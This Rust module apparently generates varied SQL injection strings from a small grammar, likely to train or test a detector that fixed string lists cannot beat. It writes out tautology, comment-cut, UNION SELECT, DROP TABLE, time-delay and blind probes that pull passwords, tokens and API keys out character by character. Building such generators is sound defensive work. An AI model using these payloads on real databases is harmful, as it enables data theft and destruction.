//! What an attacker writes into a value: drawn from a small grammar, so that no list of strings
//! finds it.
use super::super::draw::Draw;
use super::template::{Condition, Test};
use super::values::{Holds, Vocabulary};

/// Kinds of injections that work.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Means {
    Tautology,
    Comment,
    Widening,
    Subquery,
    Blind,
}

impl Means {
    /// Stable name, used in labels.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Means::Tautology => "tautology",
            Means::Comment => "comment-cut",
            Means::Widening => "or-widening",
            Means::Subquery => "subquery",
            Means::Blind => "blind",
        }
    }
    /// It returns what it should not at once, instead of bit by bit.
    pub(crate) fn widens(self) -> bool {
        !matches!(self, Means::Blind | Means::Subquery)
    }
}

/// What is written into one value.
#[derive(Clone, Debug)]
pub(crate) struct Injection {
    /// The condition.
    pub(crate) place: usize,
    pub(crate) glue: &'static str,
    /// A whole condition of its own.
    pub(crate) predicate: String,
    /// The rest is commented out instead of balanced.
    pub(crate) comment: bool,
    /// Instead of all that: this, which the service refuses.
    pub(crate) tail: Option<String>,
}

fn text(draw: &mut Draw) -> String {
    let letters = b"abcdefghikmnprstuvwxyz0123456789";
    (0..1 + draw.below(4)).map(|_| char::from(letters[draw.below(letters.len())])).collect()
}

/// Always true, one way or the other.
fn tautology(q: char, alias: &str, field: &str, draw: &mut Draw) -> String {
    let (n, s) = (1 + draw.below(9000), text(draw));
    let gap = *draw.pick(&["", " "]);
    match draw.below(10) {
        0 | 1 => format!("{n}{gap}={gap}{n}"),
        2 => format!("{q}{s}{q}{gap}={gap}{q}{s}{q}"),
        3 => format!("{n}{gap}<{gap}{}", n + 1 + draw.below(50)),
        4 => "true".to_owned(),
        5 => "NOT false".to_owned(),
        6 => format!("{alias}.id{gap}={gap}{alias}.id"),
        7 => format!("IS_DEFINED({alias}.id)"),
        8 => format!("{alias}.{field} != null"),
        _ => format!("STARTSWITH({alias}.id, {q}{q})"),
    }
}

fn widening(q: char, alias: &str, field: &str, draw: &mut Draw) -> String {
    match draw.below(5) {
        0 => format!("{alias}.{field} != {q}{}{q}", text(draw)),
        1 => format!("{alias}.id > {q}{q}"),
        2 => format!("{alias}.id LIKE {q}%{q}"),
        3 => format!("{alias}._ts > {}", draw.below(1000)),
        _ => format!("CONTAINS({alias}.id, {q}{}{q})", &text(draw)[..1]),
    }
}

fn subquery(q: char, alias: &str, draw: &mut Draw) -> String {
    let list = *draw.pick(&["tags", "roles", "items", "users"]);
    match draw.below(3) {
        0 => format!("EXISTS(SELECT VALUE t FROM t IN {alias}.{list})"),
        1 => format!("(SELECT VALUE COUNT(1) FROM t IN {alias}.{list}) > {}", draw.below(3)),
        _ => format!(
            "ARRAY_LENGTH(ARRAY(SELECT VALUE t FROM t IN {alias}.{list} WHERE t != {q}{}{q})) >= 0",
            text(draw)
        ),
    }
}

fn blind(q: char, alias: &str, at: usize, draw: &mut Draw) -> String {
    let secret = *draw.pick(&["password", "passwordHash", "token", "email", "apiKey"]);
    match draw.below(4) {
        0 => format!("SUBSTRING({alias}.{secret}, {at}, 1) = {q}{}{q}", &text(draw)[..1]),
        1 => format!("LENGTH({alias}.{secret}) > {}", draw.below(64)),
        2 => format!("STARTSWITH({alias}.{secret}, {q}{}{q})", text(draw)),
        _ => format!("(LENGTH({alias}.{secret}) > {} ? true : false)", draw.below(64)),
    }
}

/// Draws an injection into `condition`, the `place`th; `step` counts blind probes.
pub(crate) fn working(
    means: Means,
    (place, quote): (usize, char),
    vocabulary: &Vocabulary,
    step: usize,
    draw: &mut Draw,
) -> Injection {
    let (alias, field) = (vocabulary.alias, vocabulary.field(draw).0);
    let (glue, predicate) = match means {
        Means::Tautology | Means::Comment => ("OR", tautology(quote, alias, field, draw)),
        Means::Widening => ("OR", widening(quote, alias, field, draw)),
        Means::Subquery => (*draw.pick(&["OR", "AND"]), subquery(quote, alias, draw)),
        Means::Blind => ("AND", blind(quote, alias, step, draw)),
    };
    let comment = means == Means::Comment || (means != Means::Blind && draw.chance(0.25));
    Injection { place, glue, predicate, comment, tail: None }
}

/// Draws a probe: most are refused.
pub(crate) fn probing(
    (place, quote): (usize, char),
    vocabulary: &Vocabulary,
    draw: &mut Draw,
) -> Injection {
    let q = *draw.pick(&[quote, quote, quote, '\'', '"']);
    let (n, s) = (1 + draw.below(9000), text(draw));
    let close = *draw.pick(&["", ")", "))", " "]);
    let or = *draw.pick(&["OR", "or", "||", "AND", "Or"]);
    let columns = vec![*draw.pick(&["NULL", "1", "@@version"]); 1 + draw.below(9)].join(",");
    let table = *draw.pick(&["users", "information_schema.tables", "sysobjects", "c", "admin"]);
    let tail = match draw.below(12) {
        0 => format!("{q}{close}"),
        1 => format!("{q}{q}{close}{q}"),
        2 | 3 => format!("{q}{close} UNION SELECT {columns} FROM {table}--"),
        4 => format!("{q}{close}; DROP TABLE {table}--"),
        5 => format!("{q}{close} {or} {n}={n}/*"),
        6 => format!("{q}/**/{or}/**/{q}{s}{q}={q}{s}"),
        7 => format!("{q}{close} {or} SLEEP({})--", draw.below(20)),
        8 => format!("{q}{close}; WAITFOR DELAY {q}0:0:{}{q}--", draw.below(20)),
        9 => format!("{q}{close} AND {n}=CONVERT(int,(SELECT {columns}))--"),
        10 => format!("\\{q} {or} {s}"),
        _ => format!("{q}{close} {or} {q}{s}{q}={q}{s}{q}) ORDER BY {}--", 1 + draw.below(12)),
    };
    let glue = "OR";
    let predicate = tautology(quote, vocabulary.alias, "id", draw);
    Injection { place, glue, predicate, comment: true, tail: Some(tail) }
}

impl Injection {
    /// What stands between the quotes of `condition` when `value` begins it.
    pub(crate) fn inside(
        &self,
        condition: &Condition,
        q: char,
        value: &str,
        alias: &str,
    ) -> String {
        if let Some(tail) = &self.tail {
            return format!("{value}{tail}");
        }
        let (glue, predicate) = (self.glue, &self.predicate);
        if condition.holds == Holds::Number {
            let end = if self.comment { " --" } else { "" };
            return format!("{value} {glue} {predicate}{end}");
        }
        let close = match condition.test {
            Test::Call(_) | Test::In(_) => ")",
            Test::Compare(_) | Test::Like => "",
        };
        let open = format!("{value}{q}{close} {glue} {predicate}");
        if self.comment {
            return format!("{open} --");
        }
        match condition.test {
            Test::Call(_) => format!("{open} AND STARTSWITH({alias}.id, {q}"),
            Test::In(_) => format!("{open} AND {q}a{q} IN ({q}a"),
            Test::Like => format!("{open} AND {q}a{q} LIKE {q}"),
            // The literal's own end serves the injected one.
            Test::Compare(_) => match predicate.strip_suffix(q) {
                Some(unclosed) => format!("{value}{q} {glue} {unclosed}"),
                None => format!("{open} AND {q}a{q}={q}a"),
            },
        }
    }
}
